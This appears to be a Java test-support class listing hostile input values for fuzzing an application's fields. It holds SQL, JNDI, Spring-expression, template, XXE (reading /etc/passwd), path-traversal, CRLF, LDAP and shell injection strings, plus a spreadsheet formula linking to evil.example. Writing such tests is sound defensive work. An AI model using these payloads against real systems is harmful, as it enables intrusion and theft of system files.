package in.gov.sangam.support;

import java.util.List;

/** Text an attacker (or a careless client) sends in place of a value: what every field and parameter is tried with. */
public final class HostileValues {

    /** A value and what it tries. */
    public record Text(String label, String value) {
    }

    /** Strings that mean something to a database, an expression language, a browser, a parser or a shell. */
    public static final List<Text> INJECTIONS = List.of(
            new Text("SQL quote", "' OR '1'='1"),
            new Text("SQL statement", "1; DROP TABLE application; --"),
            new Text("JNDI lookup", "${jndi:ldap://x/a}"),
            new Text("Spring expression", "#{T(java.lang.Runtime).getRuntime().exec('id')}"),
            new Text("property placeholder", "${sangam.crypto.key}"),
            new Text("template expression", "{{7*7}}<#assign x=1>${7*7}"),
            new Text("script tag", "<script>alert(1)</script>"),
            new Text("XML entity", "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><x>&e;</x>"),
            new Text("CDATA end", "]]>"),
            new Text("path traversal", "../../../../etc/passwd"),
            new Text("Windows path traversal", "..\\..\\windows\\win.ini"),
            new Text("CRLF", "x\r\nX-Injected: yes"),
            new Text("encoded CRLF", "x%0d%0aX-Injected: yes"),
            new Text("LDAP filter", "*)(uid=*))(|(uid=*"),
            new Text("shell", "$(touch /tmp/sangam)`id`"),
            new Text("spreadsheet formula", "=HYPERLINK(\"http://evil.example\",\"x\")"),
            new Text("format string", "%s%s%s%n%x"));

    /** Text outside what most code is tested with. */
    public static final List<Text> UNICODE = List.of(
            new Text("astral plane", "\uD835\uDD6C\uD835\uDD8E\uD835\uDD98 \uD83D\uDE00 \uD804\uDC15"),
            new Text("right-to-left override", "Aisha\u202Etahb"),
            new Text("combining marks", "Z" + "\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308".repeat(10)),
            new Text("lone surrogate", "x\uD800y"),
            new Text("NUL", "x\u0000y"),
            new Text("byte order mark", "\uFEFFx"),
            new Text("non-character", "x\uFFFF"),
            new Text("zero-width joiner", "a\u200B\u200Db"));

    /** Far beyond any field's length, yet with the rest of a request under the hub's 64 KiB body limit. */
    public static final Text HUGE = new Text("60 KiB string", "A".repeat(60 * 1024));

    private HostileValues() {
    }
}
